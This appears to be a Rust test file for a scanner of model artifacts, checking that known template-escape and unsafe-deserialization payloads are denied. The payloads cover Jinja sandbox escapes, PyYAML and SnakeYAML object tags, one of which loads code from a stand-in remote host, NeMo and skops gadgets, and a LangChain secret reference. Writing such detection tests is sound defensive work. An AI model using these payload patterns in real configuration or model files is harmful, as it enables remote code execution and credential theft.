//! Advisories about templates and configurations.

use crate::denied;

#[test]
fn cve_2024_34359_template_escape() {
    for template in [
        "{{ ''.__class__.__base__.__subclasses__() }}",
        "{{ self.__init__.__globals__['__builtins__'] }}",
        "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
        "{{ messages|attr('__class__') }}",
        "{{ messages['__cl' ~ 'ass__'] }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    ] {
        denied("chat_template.jinja", template.as_bytes().to_vec(), "template-escape");
        let config = serde_json::json!({ "chat_template": template }).to_string();
        denied("tokenizer_config.json", config.into_bytes(), "template-escape");
        let named = serde_json::json!({ "chat_template": [{ "name": "default", "template": template }] }).to_string();
        denied("tokenizer_config.json", named.into_bytes(), "template-escape");
    }
}

#[test]
fn fickling_and_picklescan_do_not_read_auto_map_remote_code() {
    let config = r#"{"model_type":"x","auto_map":{"AutoModel":"modeling_x.Model"}}"#;
    denied("config.json", config.as_bytes().to_vec(), "remote-code");
}

#[test]
fn cve_2025_23304_nemo_configuration() {
    let config: &[u8] = b"preprocessor:\n  _target_: os.system\n  command: echo waag-inert\n";
    denied("model_config.yaml", config.to_vec(), "instantiate-target");
    denied("model.nemo", waag_testkit::encode::tar(&[("./model_config.yaml", config)]), "instantiate-target");
}

#[test]
fn cve_2020_14343_pyyaml_objects() {
    for text in [
        "!!python/object/apply:os.system ['echo waag-inert']",
        "!!python/object/new:type {args: [z, [], {extend: !!python/name:exec x}], listitems: 'print(1)'}",
        "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:subprocess.Popen [[echo, waag-inert]]",
        "a: &x {b: !!python/name:os.system x}\nc: *x",
    ] {
        denied("params.yaml", text.as_bytes().to_vec(), "instantiate-target");
        let card = format!("---\n{}\n---\n# A model\n", text.replace("---\n", ""));
        if !text.starts_with('%') {
            denied("README.md", card.into_bytes(), "instantiate-target");
        }
    }
}

#[test]
fn cve_2025_54412_and_54413_skops_nodes() {
    let operator = r#"{"__class__":"call","__module__":"builtins","__loader__":"OperatorFuncNode","attrs":{}}"#;
    denied("schema.json", operator.as_bytes().to_vec(), "instantiate-target");
    let method = r#"{"__class__":"Pipeline","__module__":"sklearn.pipeline","__loader__":"MethodNode","content":{"func":"__init__.__globals__","obj":{}}}"#;
    denied("schema.json", method.as_bytes().to_vec(), "instantiate-target");
}

#[test]
fn cve_2022_1471_snakeyaml_objects() {
    let text =
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.7/\"]]]]";
    denied("config.yaml", text.as_bytes().to_vec(), "instantiate-target");
}

#[test]
fn cve_2023_36258_and_2025_68664_langchain_objects() {
    denied("chain.json", br#"{"_type": "pal_chain"}"#.to_vec(), "instantiate-target");
    let leak = r#"{"metadata":{"note":{"lc":1,"type":"secret","id":["AWS_SECRET_ACCESS_KEY"]}}}"#;
    denied("message.json", leak.as_bytes().to_vec(), "risky-source");
    let prompt = r#"{"_type":"prompt","template_format":"jinja2","template":"{{ ''.__class__.__mro__ }}"}"#;
    denied("prompt.json", prompt.as_bytes().to_vec(), "template-escape");
}
